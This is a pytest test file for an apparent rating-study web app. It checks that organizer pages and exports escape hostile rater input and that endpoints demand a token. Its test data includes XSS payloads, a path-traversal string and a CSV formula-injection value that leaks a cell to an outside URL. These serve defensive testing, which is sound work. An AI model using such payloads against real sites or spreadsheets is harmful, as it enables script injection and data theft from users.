"""The organizer's pages against raters, files and colleagues who do what they should not."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from typing import Any

import pytest

from jurybox.simulate.judges import SimulatedJudge, run_judges
from jurybox.study.model import RaterId
from jurybox.web.names import hidden_names
from jurybox.web.organizer.safe import safe_cell
from tests.web.filling import TRUTH, real_offers
from tests.web.office import HEADERS, START, Office, Offices
from tests.web.test_api import Client, sent, vote

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7 * 7 }}",
    "[a](javascript:alert(1)) | b",
    "مرحبا بالعالم",
    "😀 👍🏽",
    "W" * 64,
    "a/../b?c=d&e#f%2F+g",
    "..",
    ".",
    "=1+1",
)


def answer_all(office: Office, rater: str, **more: Any) -> None:
    client = Client(office.http, rater)
    stage = client.begin()
    while stage["stage"] == "trial":
        client.post("submit", sent(stage["trials"][0], vote(), **more))
        stage = client.get("next")


def rank_all(office: Office, rater: str = "r1") -> None:
    client = Client(office.http, rater)
    stage = client.begin()
    while stage["stage"] == "trial":
        ranks = [{"criterion": "fit", "ranks": [2, 1, 4, 3]}]
        client.post("submit", sent(stage["trials"][0], ranks))
        stage = client.get("next")


# What raters write


@pytest.mark.parametrize("rater", HOSTILE)
def test_any_id_and_any_words_are_text_on_every_page(offices: Offices, rater: str) -> None:
    office = offices.open("compare")
    words = f"{rater} <script>alert(2)</script>"
    answer_all(office, rater, comment=words)
    office.served.app.state.site.offers = real_offers(office.served)
    first = office.store.submissions()[-1].submission
    office.store.event(
        "problem", rater=first.rater, trial=first.trial, detail={"words": words}, now=START
    )
    raters = office.get("raters").json()["html"]
    (address,) = re.findall(r'href="#/(raters\?rater=[^"]*)"', raters)
    pages = ["progress", "raters", address, "trials", f"trials/{first.trial}", "results"]
    for part in pages:
        html = office.get(part).raise_for_status().json()["html"]
        assert "<script" not in html, part
        assert not re.search(r"<img[^>]+onerror", html), part
        assert not re.search(r'(?:href|src|action)="[^"#]*:', html), part
    assert rater in office.html(address)
    assert office.post("raters", rater=rater, action="pause").status_code == 200


def test_a_flood_of_reports_does_not_fill_the_page(offices: Offices) -> None:
    office = offices.open("compare")
    answer_all(office, "r1")
    trial = office.store.submissions()[-1].submission.trial
    for number in range(40):
        detail = {"words": f"Report {number:02}."}
        office.store.event("problem", rater=RaterId("r1"), trial=trial, detail=detail, now=START)
    for part in ("raters?rater=r1", f"trials/{trial}"):
        shown = re.findall(r"Report (\d\d)", office.text(part))
        assert shown == [f"{number:02}" for number in range(39, 9, -1)], part  # the latest 30
        assert "the latest 30 of 40" in office.text(part), part


# Spreadsheets


def test_no_cell_of_any_download_is_a_formula(offices: Offices) -> None:
    office = offices.open("compare")
    evil = '=HYPERLINK("http://example.org/?"&A1)'
    answer_all(office, "@evil", comment=evil)
    answer_all(office, "\uff1dwide")
    office.post("invitations", raters=["+49", "\uff20x"])
    tables = {
        name: office.get(name).content.decode("utf-8-sig")
        for name in ("payments.csv", "invitations.csv", "export/votes", "export/submissions")
    }
    archive = zipfile.ZipFile(io.BytesIO(office.get("export.zip").content))
    tables |= {name: archive.read(name).decode() for name in archive.namelist()}
    for name, text in tables.items():
        for row in csv.reader(io.StringIO(text)):
            assert not [cell for cell in row if cell and cell[0] in "=+-@\uff1d\uff20"], name
    assert f"'{evil}" in {row["comment"] for row in office.csv("export/votes")}


def test_an_apostrophe_comes_before_every_beginning_of_a_formula() -> None:
    for text in ("=1", "+1", "-1", "@x", "\t=1", "\r1", " =1", "\u00a0=1", "\uff1d1", "\uff0b1"):
        assert safe_cell(text) == f"'{text}"
    for value in ("", "a=1", "1-2", -1.5, 0, True):
        assert safe_cell(value) is value
    assert safe_cell(None) == ""


def test_payments_and_invitations_have_their_columns_before_anybody_came(
    offices: Offices,
) -> None:
    office = offices.open("compare")
    first = office.get("payments.csv").content.decode("utf-8")
    assert first == (
        "\ufeffrater,group,state,sessions,active_minutes,trials,skipped,gold_score,gold_trials,"
        "code,submission,suggestion,rule\n"
    )
    # The mark without which spreadsheets read letters beyond ASCII wrongly.
    assert office.get("invitations.csv").content.decode() == "\ufeffrater,group,state,link\n"
    answer_all(office, "Zoë مرحبا 😀")
    assert [row["rater"] for row in office.csv("payments.csv")] == ["Zoë مرحبا 😀"]


def test_a_downloaded_table_leaves_out_whom_the_analysis_leaves_out(offices: Offices) -> None:
    office = offices.open("panel", filled=True)
    marks = {row["rater"]: row["excluded_by"] for row in office.csv("export/ratings")}
    assert marks == {"rater-01": "", "rater-02": "gold_below", "rater-03": "", "rater-04": ""}


# Hidden names


@pytest.mark.parametrize("order", [(3, 1, 4, 2), (4, 3, 2, 1), (2, 1, 4, 3)])
def test_the_order_of_rows_tells_no_name(
    offices: Offices, monkeypatch: pytest.MonkeyPatch, order: tuple[int, ...]
) -> None:
    office = offices.open("rank")
    rank_all(office)
    systems = office.served.material.systems
    names = {s: f"System {number}" for s, number in zip(systems, order, strict=True)}
    monkeypatch.setattr(office.served.app.state.site, "names", names)
    rows = office.csv("export/rankings")
    assert len(rows) == 8  # 2 trials of 4 outputs each
    for trial in dict.fromkeys(row["trial"] for row in rows):
        mine = {row["system"]: row["rank"] for row in rows if row["trial"] == trial}
        assert list(mine) == ["System 1", "System 2", "System 3", "System 4"]
        ranks = dict(zip("ABCD", mine.values(), strict=True))
        tied = (
            [one for one in ranks if ranks[one] == rank] for rank in sorted(set(ranks.values()))
        )
        told = ", then ".join(" = ".join(letters) for letters in tied)
        assert f"Fit : {told} Shown as" in office.text(f"trials/{trial}")


def test_the_rows_keep_their_values_when_their_order_changes(offices: Offices) -> None:
    office = offices.open("rank")
    rank_all(office)
    site = office.served.app.state.site
    names = hidden_names(site)
    true = office.store.table("rankings")
    known = {
        (trial, names[system]): (rank, place)
        for trial, system, rank, place in zip(
            *(true[name] for name in ("trial", "system", "rank", "place")), strict=True
        )
    }
    for row in office.csv("export/rankings"):
        rank, place = known[row["trial"], row["system"]]
        assert (float(row["rank"]), int(row["place"])) == (rank, place)


def test_a_disagreement_about_a_pair_names_the_systems_as_every_page_does(
    offices: Offices,
) -> None:
    calibrate = (
        "{overlap: 1, raters: 1, seed: 7}\nquality: {gold: gold.csv}",
        "{overlap: 2, raters: 2, seed: 7}\nquality: {calibration: {items: 1}}",
    )
    office = offices.open("compare", change=calibrate)
    for rater, wanted in (("ada", 0), ("ben", 1)):
        client = Client(office.http, rater)
        (trial, *_) = client.begin()["trials"]
        order = office.served.app.state.site.slot(trial["assignment"]).order
        choice = "first" if order[0] == wanted else "second"
        client.post("submit", sent(trial, vote(choice)))
    site = office.served.app.state.site
    names = hidden_names(site)
    table = office.store.table("votes", round="calibration")
    winners = {
        rater: names[{"a": a, "b": b}[winner]]
        for rater, winner, a, b in zip(
            *(table[name] for name in ("rater", "winner", "system_a", "system_b")), strict=True
        )
    }
    assert set(winners.values()) == {"System 1", "System 2"}
    html = office.html("calibration")
    found = re.findall(r'said-value">([^<]*)</span><a[^>]*>(\w+)</a>', html)
    assert {rater: said for said, rater in found} == winners


def test_a_calibration_of_marks_says_that_they_have_no_agreement(offices: Offices) -> None:
    calibrate = (
        '  overall: {question: "How good is the translation as a whole?", scale: 0-100}\n'
        "design: {overlap: 1, raters: 1, seed: 7}",
        "design: {overlap: 1, raters: 1, seed: 7}\nquality: {calibration: {items: 1}}",
    )
    office = offices.open("mark", change=calibrate)
    office.served.app.state.site.offers = real_offers(office.served)
    assert "Nobody has answered yet." in office.text("calibration")
    client = Client(office.http, "Ada")
    (trial, *_) = client.begin()["trials"]
    client.post("submit", sent(trial, [{"criterion": "errors", "place": 0, "spans": []}]))
    text = office.text("calibration")
    assert "There is no statistic of agreement on marked errors." in text
    assert "Nobody has answered yet." not in text


# Judges, colleagues, other doors


def test_judges_are_told_from_people(offices: Offices) -> None:
    office = offices.open("panel", filled=True)
    served = office.served
    plan = served.store.load_plan()
    assert plan is not None
    judge = SimulatedJudge(id="big-judge")
    run_judges(served.study, served.material, plan, served.store, TRUTH, [judge], seed=1, now=START)
    progress = office.html("progress")
    assert "3 raters have answered" in office.text("progress")
    assert "rater=big-judge" not in progress
    assert "Judges, beside the plan: big-judge : 12 answers" in office.text("progress")
    trial = office.html(f"trials/{plan.trials[0].id}")
    assert "big-judge" in trial
    assert "rater=big-judge" not in trial
    assert "big-judge" not in {row["rater"] for row in office.csv("payments.csv")}


def test_what_a_colleague_has_done_already_is_said_and_not_recorded_twice(
    offices: Offices,
) -> None:
    office = offices.open("panel", filled=True)
    mark = {"rater": "rater-01", "rule": "organizer", "by": "Grace", "why": "Asleep"}
    assert office.post("raters", **mark, action="exclude").status_code == 200
    again = office.post("raters", **mark, action="exclude")
    assert (again.status_code, "already" in again.text) == (400, True)
    assert office.post("raters", **mark, action="include").status_code == 200
    undone = office.post("raters", **mark, action="include")
    assert (undone.status_code, "any more" in undone.text) == (400, True)
    kinds = [event.kind for event in office.store.events(rater=RaterId("rater-01"))]
    assert kinds == ["rater excluded", "exclusion undone"]


def test_a_withdrawal_is_not_taken_back(offices: Offices) -> None:
    office = offices.open("panel", filled=True)
    office.store.update_rater(RaterId("rater-01"), withdrawn_at=START, now=START)
    body = {"rater": "rater-01", "rule": "withdrawn", "by": "Grace", "why": "Please"}
    assert office.post("raters", **body, action="include").status_code == 400
    assert [mark.rule for mark in office.store.exclusions()] == ["withdrawn"]


def test_whoever_is_invited_anew_goes_on(offices: Offices) -> None:
    office = offices.open("compare")
    office.post("invitations", raters=["Ada"])
    Client(office.http, "Ada").begin()
    office.post("invitations/revoke", rater="Ada")
    came = office.store.rater(RaterId("Ada"))
    assert came is not None
    assert came.paused
    office.post("invitations", raters=["Ada"])
    came = office.store.rater(RaterId("Ada"))
    assert came is not None
    assert not came.paused


def doors(office: Office) -> Iterator[tuple[str, str]]:
    for path, methods in office.served.app.openapi()["paths"].items():
        if path.startswith(("/api/organizer", "/api/preview")):
            for method in methods:
                yield method.upper(), path.format(shape="votes", trial="t", step="guide")


def test_every_door_is_closed_without_the_token(offices: Offices) -> None:
    office = offices.open("compare")
    rater = Client(office.http, "Ada")
    rater.begin()
    before = office.store.changes()
    found = list(doors(office))
    assert len(found) > 18
    for method, path in found:
        for given in (
            {},
            {"Authorization": "Bearer "},
            {"Authorization": f"Bearer {rater.token}"},
            {"Cookie": "token=x"},
        ):
            for how in {method, "HEAD" if method == "GET" else method}:
                reply = office.http.request(how, path, headers=given, json={})
                assert reply.status_code == 401, (how, path)
                assert "access-control-allow-origin" not in reply.headers
        for other in {"PUT", "DELETE", "PATCH", "OPTIONS"} - {method}:
            assert office.http.request(other, path, headers=HEADERS).status_code == 405
        query = office.http.request(method, f"{path}?token={HEADERS['Authorization'][7:]}", json={})
        assert query.status_code == 401, path
    assert office.store.changes() == before


def test_an_address_of_a_report_runs_out_and_cannot_be_made_up(offices: Offices) -> None:
    office = offices.open("panel", filled=True)
    link = office.post("report").json()["url"]
    _, until, seal = link.split("/")
    for wrong in (f"/report/{int(until) + 1}/{seal}", f"/report/{until}/{'0' * 24}"):
        assert office.http.get(wrong).status_code == 404
    assert office.http.get(f"/report/{10**30}/{seal}").status_code == 404
    assert office.http.get(f"/report/{until}/%ff%00").status_code == 404
